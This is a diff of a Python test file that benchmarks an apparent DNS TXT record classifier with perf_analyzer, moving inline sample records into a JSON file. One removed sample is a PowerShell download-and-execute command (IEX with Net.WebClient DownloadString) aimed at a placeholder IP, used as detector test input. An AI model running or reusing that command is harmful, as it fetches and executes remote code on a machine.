@@ -22,11 +22,7 @@ if not PROGRAM.exists():
     print(f"SKIPPED: no {PROGRAM}; scripts/setup-perf-analyzer installs it")
     sys.exit(77)
 
-RECORDS = [
-    "v=spf1 include:_spf.example.com ~all",
-    "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a')",
-    "google-site-verification=rXOxyZounnZasA8Z7oaD3c14JdjS9aKSWvsR1EbUSIQ",
-]
+ONE_BY_ONE = SOURCE / "tests" / "data" / "perf_analyzer.json"
 
 
 class PerfAnalyzerTest(unittest.TestCase):
@@ -35,28 +31,18 @@ class PerfAnalyzerTest(unittest.TestCase):
         cls.daemon = Daemon()
         cls._folder = tempfile.TemporaryDirectory()
         cls.folder = pathlib.Path(cls._folder.name)
-        cls.one_by_one = cls.data_file("one_by_one", [{"TEXT": [r]} for r in RECORDS])
 
     @classmethod
     def tearDownClass(cls):
         cls.daemon.__exit__()
         cls._folder.cleanup()
 
-    @classmethod
-    def data_file(cls, name, requests):
-        """A file of requests as perf_analyzer reads them: each its inputs' elements by name."""
-        path = cls.folder / f"{name}.json"
-        path.write_text(json.dumps({"data": [
-            {tensor: {"content": elements, "shape": [len(elements)]}
-             for tensor, elements in request.items()} for request in requests]}))
-        return path
-
-    def run_it(self, *flags, data=None, model="txtsentry-default"):
+    def run_it(self, *flags, data=ONE_BY_ONE, model="txtsentry-default"):
         report = self.folder / "report.csv"
         report.unlink(missing_ok=True)
         ran = subprocess.run(
             [PROGRAM, "-m", model, "-u", self.daemon.target, "-i", "grpc",
-             "--input-data", data or self.one_by_one, "--measurement-interval", "300",
+             "--input-data", data, "--measurement-interval", "300",
              "--stability-percentage", "1000", "--max-trials", "3", "--concurrency-range", "4",
              "-f", report, *flags], capture_output=True, text=True, timeout=120)
         rows = list(csv.DictReader(report.read_text().splitlines())) if report.exists() else []
@@ -82,8 +68,13 @@ class PerfAnalyzerTest(unittest.TestCase):
         self.check(*self.run_it("--async", "--streaming"))
 
     def test_many_records_a_request_with_owner_names_as_bulk(self):
-        many = self.data_file("many", [{"TEXT": RECORDS * 4,
-                                        "OWNER_NAME": ["example.com"] * 4 * len(RECORDS)}])
+        texts = [text for request in json.loads(ONE_BY_ONE.read_text())["data"]
+                 for text in request["TEXT"]["content"]]
+        shape = [len(texts)]
+        many = self.folder / "many.json"
+        many.write_text(json.dumps({"data": [{
+            "TEXT": {"content": texts, "shape": shape},
+            "OWNER_NAME": {"content": ["example.com"] * len(texts), "shape": shape}}]}))
         self.check(*self.run_it("--request-parameter", "priority:2:int", data=many))
 
     def test_a_model_that_is_not_there_is_noticed(self):
